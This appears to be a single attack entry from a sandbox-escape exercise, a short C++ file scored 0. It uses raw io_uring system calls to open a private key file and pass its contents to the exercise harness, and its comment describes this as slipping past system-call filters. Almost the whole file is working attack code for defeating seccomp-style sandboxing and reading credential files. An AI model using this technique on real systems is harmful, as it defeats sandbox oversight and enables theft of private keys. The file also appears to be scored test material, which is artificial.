// attack: opens a private key by io_uring, which no filter of system calls looks into
// exercise: 01_gbf/box
// from: own
// score: 0
#include <linux/io_uring.h>
#include <sys/mman.h>

static bool opened() {
    io_uring_params p{};
    const int ring = static_cast<int>(::syscall(SYS_io_uring_setup, 4, &p));
    if (ring < 0) return false;
    const auto map = [&](std::size_t size, off_t at) {
        return static_cast<char*>(::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, at));
    };
    char* const sq = map(p.sq_off.array + p.sq_entries * 4, IORING_OFF_SQ_RING);
    char* const cq = map(p.cq_off.cqes + p.cq_entries * sizeof(io_uring_cqe), IORING_OFF_CQ_RING);
    auto* const entry = reinterpret_cast<io_uring_sqe*>(map(p.sq_entries * sizeof(io_uring_sqe), IORING_OFF_SQES));
    entry[0] = {};
    entry[0].opcode = IORING_OP_OPENAT;
    entry[0].fd = AT_FDCWD;
    entry[0].addr = reinterpret_cast<unsigned long>(PREY_KEY);
    reinterpret_cast<unsigned*>(sq + p.sq_off.array)[0] = 0;
    ++*reinterpret_cast<unsigned*>(sq + p.sq_off.tail);
    ::syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0);
    const int descriptor = reinterpret_cast<io_uring_cqe*>(cq + p.cq_off.cqes)[0].res;
    return descriptor > 0 && prey::tell(prey::bytes_of(descriptor));
}

ANSWER_IF(opened())
